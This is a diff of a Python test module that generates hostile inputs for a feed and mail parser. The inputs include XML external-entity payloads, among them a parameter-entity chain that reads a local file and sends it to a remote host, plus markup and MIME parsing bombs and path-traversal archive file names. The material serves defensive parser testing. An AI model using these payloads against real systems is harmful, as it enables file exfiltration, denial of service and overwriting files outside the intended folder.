@@ -101,8 +101,7 @@ def _doctypes(place: Place) -> dict[str, tuple[str, str]]:
         "server": (f'[<!ENTITY x SYSTEM "{far}/general">]', "&x;"),
         "parameter": (f'[<!ENTITY % p SYSTEM "{far}/parameter"> %p;]', "&x;"),
         "parameter-chain": (
-            f"[<!ENTITY % f SYSTEM '{near}'><!ENTITY % a \"<!ENTITY &#37; s SYSTEM '{far}/?%f;'>\">"
-            "%a; %s;]",
+            f"[<!ENTITY % f SYSTEM '{near}'><!ENTITY % a \"<!ENTITY &#37; s SYSTEM '{far}/?%f;'>\">%a; %s;]",
             "&x;",
         ),
         "subset": (f'SYSTEM "{far}/subset.dtd"', "words"),
@@ -202,7 +201,7 @@ def _shapes() -> Iterator[Bomb]:
     """Markup that is deep, wide or long, as XML and as the HTML inside a feed."""
     wide = {
         "deep": lambda share: _times("<div>", share / 2) + "x",
-        "deep-closed": lambda share: (lambda n: "<div>" * n + "x" + "</div>" * n)(int(1.7e6 * share)),
+        "deep-closed": lambda share: _times("<div>", share * 0.45) + _times("</div>", share * 0.54),
         "formatting": lambda share: _times("<b><i><u>", share) + "x",
         "links": lambda share: _times("<a href='/x'>", share) + "x",
         "tables": lambda share: _times("<table><tr><td>", share) + "x",
@@ -374,7 +373,7 @@ def _texts() -> Iterator[Bomb]:
         "base64": lambda share: "Content-Transfer-Encoding: base64\n\n" + _times("PHA+PHA+\n", share),
         "quoted": lambda share: "Content-Transfer-Encoding: quoted-printable\n\n" + _times("=3Cp=3E=\n", share),
         "messages": lambda share: _times("Content-Type: message/rfc822\n\n", share),
-        "addresses": lambda share: "From: " + _times("(a(b\"<", share) + "\n\nIt ran.\n",
+        "addresses": lambda share: "From: " + _times('(a(b"<', share) + "\n\nIt ran.\n",
         "charset": lambda share: "Content-Type: text/plain; charset=idna\n\n" + _times("xn--a.", share),
     }  # fmt: skip
     for name, make_mail in mails.items():
@@ -471,7 +470,7 @@ BOMBS = tuple(
 
 _WIRE = RSS.format(ITEM.format(1, "The ferry ran.")).encode()
 PATHS = (
-    "../out.xml", "/tmp/out.xml", "a/../../out.xml", "C:\\out.xml", "..\\out.xml", "\\\\host\\out.xml",
+    "../out.xml", "/var/out.xml", "a/../../out.xml", "C:\\out.xml", "..\\out.xml", "\\\\host\\out.xml",
     "//host/out.xml", "a\0b.xml", "a\nb.xml", "c:out.xml", "x" * 600, "a/" * 300 + "x.xml",
 )  # fmt: skip
 """Names of files in archives that lead out of any folder, or nowhere."""
